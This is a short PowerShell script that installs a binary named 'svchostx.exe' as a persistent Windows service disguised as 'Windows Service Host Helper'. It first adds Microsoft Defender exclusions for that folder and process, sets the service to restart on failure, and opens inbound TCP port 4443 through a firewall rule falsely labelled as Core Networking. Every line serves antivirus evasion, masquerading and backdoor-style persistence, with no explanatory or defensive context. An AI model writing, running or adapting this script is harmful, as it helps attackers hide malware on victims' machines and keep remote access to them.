$bin = 'C:\ProgramData\WinSvcHost\svchostx.exe'
Add-MpPreference -ExclusionPath 'C:\ProgramData\WinSvcHost' -Force
Add-MpPreference -ExclusionProcess 'svchostx.exe'

New-Service -Name 'WinSvcHostHelper' -BinaryPathName $bin -DisplayName 'Windows Service Host Helper' -StartupType Automatic | Out-Null
sc.exe failure WinSvcHostHelper reset= 0 actions= restart/60000
New-NetFirewallRule -DisplayName 'Core Networking - Svc Helper (TCP-In)' -Direction Inbound -LocalPort 4443 -Protocol TCP -Action Allow | Out-Null
Start-Service -Name WinSvcHostHelper
